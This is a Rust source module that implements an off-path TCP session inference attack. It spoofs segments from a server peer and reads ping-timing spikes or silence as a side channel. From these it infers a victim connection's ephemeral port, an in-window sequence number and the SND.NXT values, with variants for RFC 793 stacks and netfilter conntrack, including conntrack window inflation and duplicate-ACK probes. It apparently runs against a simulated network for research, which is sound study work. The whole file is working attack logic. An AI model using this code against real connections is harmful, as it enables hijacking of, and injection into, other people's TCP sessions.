//! Search procedures that turn yes/no queries into the session's secrets.

use std::net::{Ipv4Addr, SocketAddrV4};

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use crate::attacker::probe::{Counters, Prober};
use crate::attacker::query::{Mode, Query, SpikeVerdict, Stage, Target};
use crate::attacker::report::{ScanReport, StageStats};
use crate::error::Error;
use crate::netsim::tx_time_ns;
use crate::seqspace::{Seq32, SeqSpace, WindowSize};
use crate::stack::{TcpFlags, HEADER_BYTES};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PortStrategy {
    /// One port per query.
    Sequential,
    /// Many ports per query, then re-test and bisect.
    Range,
}

/// Segment shape used to make the right port answer.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PortProbe {
    /// ACK with an out-of-window sequence number.
    OutOfWindowAck,
    /// SYN+ACK with an out-of-window sequence number; conntrack waves these
    /// through for a tracked flow.
    SynAck,
    /// Duplicate ACKs that push the peer into Fast Retransmit; probes are
    /// delayed until the victim's own answers have drained.
    FastRetransmit,
}

#[derive(Debug, Clone, PartialEq)]
pub struct AttackConfig {
    pub port_lo: u16,
    /// Inclusive.
    pub port_hi: u16,
    pub port_strategy: PortStrategy,
    pub port_probe: PortProbe,
    pub ports_per_query: u32,
    pub segments_per_target: u32,
    pub pings_per_query: u32,
    /// Pings per query in the searches that look for silence.
    pub silence_pings_per_query: u32,
    pub ack_values_per_query: u32,
    pub data_values_per_query: u32,
    /// First window guess for the in-window sequence search.
    pub assumed_window: u64,
    pub min_window: u64,
    /// Window the data probe steps by.
    pub data_window: u64,
    /// Window scale assumed when inflating conntrack.
    pub assumed_scale: u8,
    pub use_inflation: bool,
    pub confirm_votes: u32,
    pub max_retries: u32,
    pub dup_acks: u32,
    /// Attacker's estimate of the bottleneck rate, for drain timing.
    pub uplink_bps: u64,
    pub seed: u64,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig {
            port_lo: 1025,
            port_hi: 65535,
            port_strategy: PortStrategy::Range,
            port_probe: PortProbe::OutOfWindowAck,
            ports_per_query: 200,
            segments_per_target: 30,
            pings_per_query: 5,
            silence_pings_per_query: 3,
            ack_values_per_query: 25,
            data_values_per_query: 200,
            assumed_window: 65536,
            min_window: 1024,
            data_window: 14592,
            assumed_scale: 7,
            use_inflation: true,
            confirm_votes: 3,
            max_retries: 2,
            dup_acks: 30,
            uplink_bps: 320_000,
            seed: 1,
        }
    }
}

/// An in-window sequence number together with the ack that made the probe
/// silent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct InWindow {
    pub seq: Seq32,
    pub ack: Seq32,
    /// Window assumed by the pass that found it.
    pub window: u64,
}

#[derive(Debug, Clone, Copy)]
struct Shape {
    stage: Stage,
    mode: Mode,
    repeats: u32,
    probes: u32,
    offset_ns: u64,
}

#[derive(Debug)]
pub struct Attacker<P: Prober> {
    prober: P,
    cfg: AttackConfig,
    victim_ip: Ipv4Addr,
    peer: SocketAddrV4,
    rng: ChaCha8Rng,
    stages: Vec<StageStats>,
    open: Option<(Stage, Counters, u64, u64)>,
    max_targets: u64,
    confirm: u64,
}

impl<P: Prober> Attacker<P> {
    /// `peer` is the server side of the targeted session, whose address and
    /// port the attacker knows; `victim_ip` is the client.
    pub fn new(prober: P, cfg: AttackConfig, victim_ip: Ipv4Addr, peer: SocketAddrV4) -> Self {
        let rng = ChaCha8Rng::seed_from_u64(cfg.seed ^ 0xa77a_c4e5);
        Attacker {
            prober,
            cfg,
            victim_ip,
            peer,
            rng,
            stages: Vec::new(),
            open: None,
            max_targets: 0,
            confirm: 0,
        }
    }

    pub fn prober(&self) -> &P {
        &self.prober
    }

    pub fn prober_mut(&mut self) -> &mut P {
        &mut self.prober
    }

    pub fn into_prober(self) -> P {
        self.prober
    }

    pub fn config(&self) -> &AttackConfig {
        &self.cfg
    }

    pub fn stages(&self) -> &[StageStats] {
        &self.stages
    }

    fn space(&self) -> SeqSpace {
        self.prober.space()
    }

    fn begin(&mut self, stage: Stage) {
        self.end();
        self.open = Some((stage, self.prober.counters(), self.confirm, self.max_targets));
        self.max_targets = 0;
    }

    fn end(&mut self) {
        if let Some((stage, before, confirm_before, outer_max)) = self.open.take() {
            let d = self.prober.counters() - before;
            self.stages.push(StageStats::from_delta(
                stage,
                d,
                self.confirm - confirm_before,
                self.max_targets,
            ));
            self.max_targets = self.max_targets.max(outer_max);
        }
    }

    fn random_seq(&mut self) -> Seq32 {
        let space = self.space();
        space.wrap(u64::from(self.rng.gen::<u32>()))
    }

    fn shape(&self, stage: Stage, mode: Mode) -> Shape {
        Shape {
            stage,
            mode,
            repeats: self.cfg.segments_per_target,
            probes: match mode {
                Mode::ExpectSpike => self.cfg.pings_per_query,
                Mode::ExpectSilence => self.cfg.silence_pings_per_query,
            },
            offset_ns: 0,
        }
    }

    fn query(&mut self, shape: Shape, targets: Vec<Target>, x: u64) -> Result<SpikeVerdict, Error> {
        self.max_targets = self.max_targets.max(targets.len() as u64);
        let q = Query {
            src: self.peer,
            dst_ip: self.victim_ip,
            targets,
            repeats_per_target: shape.repeats,
            probes: shape.probes,
            mode: shape.mode,
            probe_offset_ns: shape.offset_ns,
            stage: shape.stage,
            x,
        };
        self.prober.measure(&q)
    }

    fn spikes(&mut self, shape: Shape, values: &[u64], make: &impl Fn(u64) -> Target) -> Result<bool, Error> {
        let targets = values.iter().map(|&v| make(v)).collect();
        Ok(self.query(shape, targets, values[0])?.is_spike())
    }

    fn silent(&mut self, shape: Shape, value: u64, make: &impl Fn(u64) -> Target) -> Result<bool, Error> {
        Ok(self.query(shape, vec![make(value)], value)?.is_silent())
    }

    /// Majority vote over `confirm_votes` repeats of a single-target query.
    fn confirm(&mut self, shape: Shape, value: u64, want_spike: bool, make: &impl Fn(u64) -> Target) -> Result<bool, Error> {
        let votes = self.cfg.confirm_votes.max(1);
        let mut yes = 0;
        for _ in 0..votes {
            self.confirm += 1;
            let v = self.query(shape, vec![make(value)], value)?;
            if v.is_spike() == want_spike {
                yes += 1;
            }
        }
        Ok(2 * yes > votes)
    }

    /// Finds one candidate whose segments draw a response: chunked queries,
    /// re-tests of the chunks that spiked until one is left, bisection of
    /// that chunk, then a confirmation vote.
    fn range_search(
        &mut self,
        shape: Shape,
        candidates: &[u64],
        per_query: usize,
        make: &impl Fn(u64) -> Target,
    ) -> Result<Option<u64>, Error> {
        let per_query = per_query.max(1);
        let mut hits: Vec<&[u64]> = Vec::new();
        for chunk in candidates.chunks(per_query) {
            if self.spikes(shape, chunk, make)? {
                hits.push(chunk);
            }
        }
        let mut rounds = 0;
        while hits.len() > 1 && rounds <= self.cfg.max_retries {
            let mut keep = Vec::new();
            for &chunk in &hits {
                if self.spikes(shape, chunk, make)? {
                    keep.push(chunk);
                }
            }
            if keep.is_empty() {
                break;
            }
            hits = keep;
            rounds += 1;
        }
        for chunk in hits {
            for _ in 0..=self.cfg.max_retries {
                if let Some(v) = self.narrow(shape, chunk, make)? {
                    if self.confirm(shape, v, true, make)? {
                        return Ok(Some(v));
                    }
                }
            }
        }
        Ok(None)
    }

    fn narrow(&mut self, shape: Shape, chunk: &[u64], make: &impl Fn(u64) -> Target) -> Result<Option<u64>, Error> {
        let mut cur = chunk;
        let mut misses = 0;
        while cur.len() > 1 {
            let (lo, hi) = cur.split_at(cur.len() / 2);
            if self.spikes(shape, lo, make)? {
                cur = lo;
            } else if self.spikes(shape, hi, make)? {
                cur = hi;
            } else {
                misses += 1;
                if misses > self.cfg.max_retries {
                    return Ok(None);
                }
            }
        }
        Ok(cur.first().copied())
    }

    fn port_target(&mut self) -> (Shape, impl Fn(u64) -> Target) {
        let seq = self.random_seq();
        let ack = self.random_seq();
        let mut shape = self.shape(Stage::PortScan, Mode::ExpectSpike);
        let flags = match self.cfg.port_probe {
            PortProbe::SynAck => TcpFlags::SYN | TcpFlags::ACK,
            PortProbe::OutOfWindowAck => TcpFlags::ACK,
            PortProbe::FastRetransmit => {
                shape.repeats = self.cfg.dup_acks;
                shape.offset_ns = self.drain_ns(u64::from(self.cfg.dup_acks));
                TcpFlags::ACK
            }
        };
        let make = move |port: u64| Target {
            port: port as u16,
            seq,
            ack,
            flags,
            window_field: 0,
            payload_len: 0,
        };
        (shape, make)
    }

    fn drain_ns(&self, segments: u64) -> u64 {
        tx_time_ns(segments * u64::from(HEADER_BYTES), self.cfg.uplink_bps)
    }

    /// Asks whether the session uses a port in `[lo, hi]`.
    pub fn scan_port_range(&mut self, lo: u16, hi: u16) -> Result<SpikeVerdict, Error> {
        if lo > hi {
            return Err(Error::Domain(format!("empty port range [{lo}, {hi}]")));
        }
        let (shape, make) = self.port_target();
        let targets = (u64::from(lo)..=u64::from(hi)).map(&make).collect();
        self.query(shape, targets, u64::from(lo))
    }

    /// Single-port Fast Retransmit probe.
    pub fn fast_retransmit_port_probe(&mut self, port: u16, dup_acks: u32) -> Result<SpikeVerdict, Error> {
        let seq = self.random_seq();
        let ack = self.random_seq();
        let shape = Shape {
            stage: Stage::FastRetransmit,
            mode: Mode::ExpectSpike,
            repeats: dup_acks.max(1),
            probes: self.cfg.pings_per_query,
            offset_ns: self.drain_ns(u64::from(dup_acks)),
        };
        self.query(shape, vec![Target::ack_only(port, seq, ack)], u64::from(port))
    }

    pub fn find_ephemeral_port(&mut self) -> Result<Option<u16>, Error> {
        if self.cfg.port_lo > self.cfg.port_hi {
            return Err(Error::Domain("empty port range".into()));
        }
        self.begin(Stage::PortScan);
        let ports: Vec<u64> = (u64::from(self.cfg.port_lo)..=u64::from(self.cfg.port_hi)).collect();
        let found = match self.cfg.port_strategy {
            PortStrategy::Range => {
                // a pass misses the port if its seq happens to be in window
                // with an acceptable ack; fresh values make that independent
                let per = self.cfg.ports_per_query as usize;
                let mut found = None;
                for _ in 0..=self.cfg.max_retries {
                    let (shape, make) = self.port_target();
                    found = self.range_search(shape, &ports, per, &make)?;
                    if found.is_some() {
                        break;
                    }
                }
                found
            }
            PortStrategy::Sequential => {
                let (shape, make) = self.port_target();
                let mut found = None;
                for &p in &ports {
                    if self.spikes(shape, &[p], &make)? && self.confirm(shape, p, true, &make)? {
                        found = Some(p);
                        break;
                    }
                }
                found
            }
        };
        self.end();
        Ok(found.map(|p| p as u16))
    }

    /// Looks for a (seq, ack) pair the victim accepts without a word: seqs
    /// spaced by the assumed window, each with two acks half the space
    /// apart. Every pass is scanned completely and its quietest silent
    /// queries are re-tested; if none holds up, the window is halved and
    /// the midpoints are tried.
    pub fn search_inwindow_seq_rfc793(&mut self, port: u16) -> Result<Option<InWindow>, Error> {
        self.begin(Stage::InWindowSeq);
        let space = self.space();
        let size = space.size();
        let half = u64::from(space.half());
        let s0 = self.random_seq();
        let a0 = self.random_seq();
        let shape = self.shape(Stage::InWindowSeq, Mode::ExpectSilence);
        let mut window = self.cfg.assumed_window.min(size).max(1);
        let mut first = true;
        let result = loop {
            let (start, step) = if first { (0, window) } else { (window, 2 * window) };
            let mut quiet: Vec<(f64, Seq32, Seq32)> = Vec::new();
            let mut off = start;
            while off < size {
                let seq = space.add(s0, off);
                for ack in [a0, space.add(a0, half)] {
                    let t = Target::ack_only(port, seq, ack);
                    let v = self.query(shape, vec![t], u64::from(seq.0))?;
                    if v.is_silent() {
                        quiet.push((v.avg_rtt, seq, ack));
                    }
                }
                off += step;
            }
            quiet.sort_by(|a, b| a.0.total_cmp(&b.0));
            let mut found = None;
            for &(_, seq, ack) in quiet.iter().take(3) {
                let make = move |_: u64| Target::ack_only(port, seq, ack);
                if self.confirm(shape, u64::from(seq.0), false, &make)? {
                    found = Some(InWindow { seq, ack, window });
                    break;
                }
            }
            if found.is_some() {
                break found;
            }
            if window / 2 < self.cfg.min_window.max(1) {
                break None;
            }
            if !first {
                window /= 2;
            } else {
                first = false;
                window /= 2;
            }
        };
        self.end();
        Ok(result)
    }

    /// Lowest quiet sequence number in `(found.seq - found.window,
    /// found.seq]`, which is the victim's RCV.NXT.
    pub fn binary_search_peer_sndnxt(&mut self, port: u16, found: InWindow) -> Result<Seq32, Error> {
        self.begin(Stage::PeerSndNxt);
        let space = self.space();
        let shape = self.shape(Stage::PeerSndNxt, Mode::ExpectSilence);
        let base = space.sub(found.seq, found.window);
        let ack = found.ack;
        let make = move |v: u64| Target::ack_only(port, space.wrap(v), ack);
        let mut result = found.seq;
        for _ in 0..=self.cfg.max_retries {
            let (mut lo, mut hi) = (0u64, found.window);
            while hi - lo > 1 {
                let mid = lo + (hi - lo) / 2;
                let v = u64::from(space.add(base, mid).0);
                if self.silent(shape, v, &make)? {
                    hi = mid;
                } else {
                    lo = mid;
                }
            }
            result = space.add(base, hi);
            let below = u64::from(space.sub(result, 1).0);
            if self.confirm(shape, u64::from(result.0), false, &make)? && self.confirm(shape, below, true, &make)? {
                break;
            }
        }
        self.end();
        Ok(result)
    }

    /// Highest acceptable ack: binary search over the half space above a
    /// known acceptable ack, using an in-window sequence number.
    pub fn binary_search_victim_sndnxt_rfc793(&mut self, port: u16, found: InWindow) -> Result<Seq32, Error> {
        self.begin(Stage::VictimSndNxt);
        let space = self.space();
        let shape = self.shape(Stage::VictimSndNxt, Mode::ExpectSilence);
        let seq = found.seq;
        let make = move |v: u64| Target::ack_only(port, seq, space.wrap(v));
        let mut result = found.ack;
        for _ in 0..=self.cfg.max_retries {
            let (mut lo, mut hi) = (0u64, u64::from(space.half()));
            while hi - lo > 1 {
                let mid = lo + (hi - lo) / 2;
                let v = u64::from(space.add(found.ack, mid).0);
                if self.silent(shape, v, &make)? {
                    lo = mid;
                } else {
                    hi = mid;
                }
            }
            result = space.add(found.ack, lo);
            let above = u64::from(space.add(result, 1).0);
            if self.confirm(shape, u64::from(result.0), false, &make)? && self.confirm(shape, above, true, &make)? {
                break;
            }
        }
        self.end();
        Ok(result)
    }

    /// Sends the cover ACKs with a full window field, spread so that every
    /// conntrack-acceptable ack range holds at least one of them. Returns
    /// the window conntrack should now believe in.
    pub fn inflate_conntrack_window(&mut self, port: u16) -> Result<u64, Error> {
        self.begin(Stage::Inflation);
        let space = self.space();
        let acks = spread(space, u64::from(space.conntrack_floor()) + 1, self.random_seq());
        let seq = self.random_seq();
        let q = Query {
            src: self.peer,
            dst_ip: self.victim_ip,
            targets: acks
                .iter()
                .map(|&a| Target {
                    window_field: 0xFFFF,
                    ..Target::ack_only(port, seq, space.wrap(a))
                })
                .collect(),
            repeats_per_target: 1,
            probes: 1,
            mode: Mode::ExpectSpike,
            probe_offset_ns: 0,
            stage: Stage::Inflation,
            x: acks[0],
        };
        self.max_targets = self.max_targets.max(q.targets.len() as u64);
        self.prober.send_batch(&q)?;
        self.end();
        Ok(WindowSize::max_for_scale(self.cfg.assumed_scale))
    }

    /// Range-queries ack values spaced by the acceptance depth; the victim
    /// only answers once conntrack lets an ack through. Halves the spacing
    /// if a pass turns up nothing.
    pub fn search_acceptable_ack_netfilter(&mut self, port: u16, depth: u64) -> Result<Option<Seq32>, Error> {
        self.begin(Stage::AckSearch);
        let space = self.space();
        let floor = u64::from(space.conntrack_floor());
        let mut depth = depth.max(floor);
        let shape = self.shape(Stage::AckSearch, Mode::ExpectSpike);
        let seq = self.random_seq();
        let make = move |a: u64| Target::ack_only(port, seq, space.wrap(a));
        let result = loop {
            let a0 = self.random_seq();
            let acks = spread(space, depth + 1, a0);
            let per = self.cfg.ack_values_per_query as usize;
            if let Some(a) = self.range_search(shape, &acks, per, &make)? {
                break Some(space.wrap(a));
            }
            if depth <= floor {
                break None;
            }
            depth = (depth / 2).max(floor);
        };
        self.end();
        Ok(result)
    }

    /// Exact SND.NXT from an acceptable ack: the largest offset in
    /// `[0, depth]` whose ack still gets through.
    pub fn binary_search_victim_sndnxt_netfilter(&mut self, port: u16, acceptable: Seq32, depth: u64) -> Result<Seq32, Error> {
        self.begin(Stage::VictimSndNxt);
        let space = self.space();
        let shape = self.shape(Stage::VictimSndNxt, Mode::ExpectSpike);
        let seq = self.random_seq();
        let make = move |a: u64| Target::ack_only(port, seq, space.wrap(a));
        let mut result = acceptable;
        // padded to a power of two so every pass takes the same number of
        // queries; offsets past SND.NXT are simply rejected
        let width = (depth + 1).next_power_of_two();
        for _ in 0..=self.cfg.max_retries {
            let (mut lo, mut hi) = (0u64, width);
            while hi - lo > 1 {
                let mid = lo + (hi - lo) / 2;
                let v = u64::from(space.add(acceptable, mid).0);
                if self.spikes(shape, &[v], &make)? {
                    lo = mid;
                } else {
                    hi = mid;
                }
            }
            result = space.add(acceptable, lo);
            let above = u64::from(space.add(result, 1).0);
            if self.confirm(shape, u64::from(result.0), true, &make)? && self.confirm(shape, above, false, &make)? {
                break;
            }
        }
        self.end();
        Ok(result)
    }

    /// Locates the victim's RCV.NXT with one-byte data segments, which
    /// conntrack only lets through inside the receive window.
    ///
    /// A byte that lands exactly on RCV.NXT is accepted and moves it on by
    /// one; the answer is the boundary as it stands after the search.
    pub fn probe_peer_sndnxt_data(&mut self, port: u16, ack: Seq32) -> Result<Option<Seq32>, Error> {
        self.begin(Stage::DataProbe);
        let space = self.space();
        let window = self.cfg.data_window.clamp(1, space.size());
        let shape = self.shape(Stage::DataProbe, Mode::ExpectSpike);
        let make = move |s: u64| Target {
            payload_len: 1,
            ..Target::ack_only(port, space.wrap(s), ack)
        };
        let s0 = self.random_seq();
        let seqs = spread(space, window, s0);
        let per = self.cfg.data_values_per_query as usize;
        let result = match self.range_search(shape, &seqs, per, &make)? {
            None => None,
            Some(inside) => {
                let inside = space.wrap(inside);
                let base = space.sub(inside, window);
                let mut result = inside;
                for _ in 0..=self.cfg.max_retries {
                    let (mut lo, mut hi) = (0u64, window);
                    while hi - lo > 1 {
                        let mid = lo + (hi - lo) / 2;
                        let v = u64::from(space.add(base, mid).0);
                        if self.spikes(shape, &[v], &make)? {
                            hi = mid;
                        } else {
                            lo = mid;
                        }
                    }
                    // A probe landing exactly on RCV.NXT is accepted and
                    // moves it on by one, so it now sits at `hi` or `hi + 1`.
                    // One more probe at `hi` leaves it at `hi + 1` either way.
                    let edge = u64::from(space.add(base, hi).0);
                    self.spikes(shape, &[edge], &make)?;
                    result = space.add(base, hi + 1);
                    let above = u64::from(space.add(result, 1).0);
                    if self.confirm(shape, edge, false, &make)? && self.confirm(shape, above, true, &make)? {
                        break;
                    }
                }
                Some(result)
            }
        };
        self.end();
        Ok(result)
    }

    /// Port, then an in-window (seq, ack), then both SND.NXT values.
    pub fn full_rfc793(&mut self) -> Result<ScanReport, Error> {
        let mut r = ScanReport::default();
        r.inferred_port = self.find_ephemeral_port()?;
        if let Some(port) = r.inferred_port {
            if let Some(found) = self.search_inwindow_seq_rfc793(port)? {
                r.inwindow_seq = Some(found.seq);
                r.acceptable_ack = Some(found.ack);
                r.inferred_peer_snd_nxt = Some(self.binary_search_peer_sndnxt(port, found)?);
                r.inferred_victim_snd_nxt = Some(self.binary_search_victim_sndnxt_rfc793(port, found)?);
            }
        }
        Ok(self.finish(r))
    }

    /// Port, window inflation, acceptable ack, victim SND.NXT, then the
    /// data probe for the peer's SND.NXT.
    pub fn full_netfilter(&mut self) -> Result<ScanReport, Error> {
        let mut r = ScanReport::default();
        r.inferred_port = self.find_ephemeral_port()?;
        if let Some(port) = r.inferred_port {
            let floor = u64::from(self.space().conntrack_floor());
            let depth = if self.cfg.use_inflation {
                let w = self.inflate_conntrack_window(port)?;
                r.inflated_window = Some(w);
                w.max(floor)
            } else {
                floor
            };
            if let Some(a) = self.search_acceptable_ack_netfilter(port, depth)? {
                r.acceptable_ack = Some(a);
                let snd = self.binary_search_victim_sndnxt_netfilter(port, a, depth)?;
                r.inferred_victim_snd_nxt = Some(snd);
                r.inferred_peer_snd_nxt = self.probe_peer_sndnxt_data(port, snd)?;
            }
        }
        Ok(self.finish(r))
    }

    pub fn port_only(&mut self) -> Result<ScanReport, Error> {
        let r = ScanReport {
            inferred_port: self.find_ephemeral_port()?,
            ..ScanReport::default()
        };
        Ok(self.finish(r))
    }

    /// Fills in totals; `success` is left for the caller to judge against
    /// the truth.
    pub fn finish(&mut self, mut r: ScanReport) -> ScanReport {
        self.end();
        let c = self.prober.counters();
        r.queries = c.queries;
        r.pings = c.pings;
        r.spoofed_segments = c.spoofed;
        r.reflected_segments = c.reflected;
        r.scan_time_s = crate::netsim::to_secs_f64(c.time_ns);
        r.max_targets_per_query = self.stages.iter().map(|s| s.max_targets_per_query).max().unwrap_or(0);
        r.stages = self.stages.clone();
        r
    }
}

/// `ceil(size / gap)` values starting at `start`, spread evenly so that
/// consecutive values are at most `gap` apart around the whole space.
pub fn spread(space: SeqSpace, gap: u64, start: Seq32) -> Vec<u64> {
    let size = space.size();
    let n = size.div_ceil(gap.max(1));
    (0..n)
        .map(|k| u64::from(space.add(start, (u128::from(k) * u128::from(size) / u128::from(n)) as u64).0))
        .collect()
}
